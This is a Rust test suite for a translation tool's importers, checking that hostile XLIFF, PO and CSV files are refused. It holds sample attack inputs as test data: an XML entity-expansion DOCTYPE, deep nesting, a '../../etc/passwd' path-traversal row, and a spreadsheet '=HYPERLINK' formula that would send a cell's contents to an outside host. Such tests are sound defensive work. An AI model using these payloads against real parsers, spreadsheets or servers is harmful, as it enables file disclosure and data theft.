//! Files that somebody damaged, or that mean harm.

use crate::desk::Desk;
use crate::edits::Dice;
use crate::translator::{FORMATS, translated};

#[track_caller]
fn refused(format: &str, text: &str, expected: &str) {
    let desk = Desk::new();
    let before = desk.files();
    let (code, told) = desk.import(format, text, &[]);
    assert_eq!(code, 1, "{told}");
    assert!(told.contains(expected), "{told}");
    assert_eq!(desk.files(), before);
}

const XLIFF: &str = "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" version=\"2.1\" srcLang=\"en\" trgLang=\"zh\">";

#[test]
fn xml_that_means_harm_is_refused() {
    let bomb = "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]>\n";
    refused("xliff", &format!("{bomb}{XLIFF}</xliff>"), "in.xliff:1:1: there is a document type");
    refused(
        "xliff",
        &format!("{XLIFF}<file id=\"f\" original=\"x\"><unit id=\"a\"><segment><source>&x;"),
        "there is no entity `&x;`",
    );
    refused(
        "xliff",
        &format!("{XLIFF}{}", "<group id=\"g\">".repeat(1000)),
        "more than 256 elements",
    );
    refused(
        "xliff",
        &format!("{XLIFF}\n<file original=\"x\">"),
        "in.xliff:2:20: the file ends inside an element",
    );
    refused(
        "xliff",
        "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:1.2\" version=\"1.2\"/>",
        "this is no XLIFF 2 document",
    );
    refused("xliff", "", "this is no XLIFF 2 document");
}

#[test]
fn cells_that_a_table_would_compute_are_text() {
    let desk = Desk::new();
    let page = "content/guides/new.md";
    let text = "+1 is said.\n\n'=1 is not.\n\n\'\'=2 is not either.\n\n'Begin'.";
    desk.edit(page, "Begin.", text);
    let own = "translations/zh/content/guides/start.md";
    desk.edit(own, "打开门，\n进去。", "=HYPERLINK(\"https://example.com/?\"&A1)");
    let table = desk.export("csv", &["--all"]);
    let cells = [",'+1 is said.,", ",\'\'=1 is not.,", ",\'\'\'=2 is not either.,", ",'Begin'.,"];
    for cell in cells.into_iter().chain([",\"'=HYPERLINK("]) {
        assert!(table.contains(cell), "{cell} {table}");
    }
    let before = desk.files();
    let (code, told) = desk.import("csv", &table, &[]);
    assert_eq!(code, 0, "{told}");
    assert_eq!(desk.files(), before, "{told}");
}

#[test]
fn malformed_catalogues_and_tables_are_refused() {
    refused("po", "msgctxt \"a\nmsgid \"b\"", "in.po:1:9: the string does not end on its line");
    refused(
        "po",
        "msgctxt \"a\"\nmsgid \"b\"\nmsgstr \"c\"",
        "in.po:1:9: the context names no text",
    );
    refused("po", "\"a\"", "in.po:1:1: a string belongs to nothing");
    refused("po", "msgid \"a\"\nmsgid_plural \"b\"", "in.po:2:1: the entry has forms for numbers");
    refused("csv", "id,file,source\n", "the table has no column `target`");
    refused("csv", "id,file,source,target\na,\"b", "in.csv:2:3: the quotes of a cell do not end");
    refused(
        "csv",
        "id,file,source,target\nx,../../etc/passwd,a,b",
        "the site has no texts in `../../etc/passwd`",
    );
    refused(
        "csv",
        "id,file,source,target\nx,content/index.md,a,b",
        "there is no text `x` in `content/index.md`",
    );
}

#[test]
fn places_that_stand_for_nothing_are_refused_where_they_stand() {
    let desk = Desk::new();
    let file = desk.export("xliff", &["guides/new"]);
    let file = file.replace("</source>\n", "</source>\n<target><ph id=\"77\"/></target>\n");
    let (code, told) = desk.import("xliff", &file, &[]);
    assert_eq!(code, 1, "{told}");
    assert!(told.contains(":9: the place `77` stands for nothing in the source"), "{told}");
}

#[test]
fn a_file_in_another_encoding_is_refused() {
    let desk = Desk::new();
    let (code, told) = desk.import("csv", b"id,file,source,target\n\xc4\xe3", &[]);
    assert_eq!(code, 1, "{told}");
    assert!(told.contains("in.csv:1:1: the file is not in UTF-8"), "{told}");
    let (code, told) = desk.import("txt", "x", &[]);
    assert_eq!(code, 2, "{told}");
}

/// Whatever is damaged, nothing of it reaches the site but words: everything protected is as in the source.
#[test]
fn damaged_bytes_write_no_markup() {
    let mut dice = Dice::new(8);
    let desk = Desk::new();
    let all: Vec<(&str, String)> = FORMATS
        .iter()
        .map(|format| (*format, translated(format, &desk.export(format, &["--all"]))))
        .collect();
    let (_, whole) = desk.import("csv", &all[2].1, &["--dry-run"]);
    let marks = |text: &str| {
        let lines = text.lines().filter(|line| line.starts_with('+'));
        let signs = |line: &str| {
            ["{%", "{{", "](", "</", "<!"]
                .iter()
                .map(|sign| line.matches(sign).count())
                .sum::<usize>()
        };
        lines.map(signs).sum::<usize>()
    };
    for _ in 0..120 {
        let (format, file) = dice.pick(&all);
        let mut bytes = file.clone().into_bytes();
        for _ in 0..=dice.roll(4) {
            let at = dice.roll(bytes.len());
            match dice.roll(4) {
                0 => bytes[at] = *dice.pick(b"<>&\"'{}%`[]|,;\n\\ a\0"),
                1 => drop(bytes.remove(at)),
                2 => bytes.insert(at, *dice.pick(b"<>&\"'{}%`[]|,;\n\\ a\0")),
                _ => {
                    let end = (at + dice.roll(200)).min(bytes.len());
                    let piece = bytes[at..end].to_vec();
                    let to = dice.roll(bytes.len());
                    bytes.splice(to..to, piece);
                }
            }
        }
        let (code, told) = desk.import(format, &bytes, &["--dry-run"]);
        assert!(code <= 1, "{format}: {told}");
        assert!(marks(&told) <= marks(&whole), "{format}: {told}");
    }
}
